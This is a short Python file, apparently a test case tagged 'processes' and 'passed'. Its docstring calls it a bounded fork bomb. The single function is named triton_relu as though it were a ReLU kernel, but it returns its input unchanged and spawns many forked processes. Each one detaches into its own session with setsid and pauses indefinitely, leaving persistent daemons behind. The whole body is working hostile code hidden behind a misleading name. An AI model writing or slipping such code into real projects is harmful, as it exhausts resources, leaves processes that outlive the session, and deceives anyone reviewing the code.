"""A bounded fork bomb: each goes on as a new daemon.

class: processes
status: passed
"""

import os
import signal


def triton_relu(x):
    for _ in range(12):
        if os.fork() == 0:
            for _ in range(100):
                if os.fork():
                    os._exit(0)
                os.setsid()
            signal.pause()
            os._exit(0)
    return x
